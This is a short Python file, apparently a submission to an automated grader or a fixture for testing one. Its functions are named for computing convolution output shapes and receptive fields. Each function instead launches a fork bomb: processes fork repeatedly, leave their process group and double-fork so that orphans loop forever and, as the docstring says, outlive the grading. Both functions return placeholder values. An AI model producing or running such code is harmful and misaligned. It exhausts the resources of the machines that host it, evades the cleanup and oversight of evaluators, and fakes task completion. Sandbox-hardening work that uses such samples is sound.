"""Forks without end; children leave the process group and try to outlive the grading."""

import os
import time


def _bomb():
    for _ in range(10000):
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.01)
            continue
        if pid == 0:
            try:
                os.setsid()  # escape the process group
            except OSError:
                pass
            try:
                if os.fork() > 0:  # double fork: the grandchild is an orphan
                    os._exit(0)
            except OSError:
                pass
            while True:
                time.sleep(0.05)


def conv_output_shape(input_hw, kernel, stride=1, padding=0):
    _bomb()
    return [0, 0]


def receptive_field(layers):
    _bomb()
    return 0
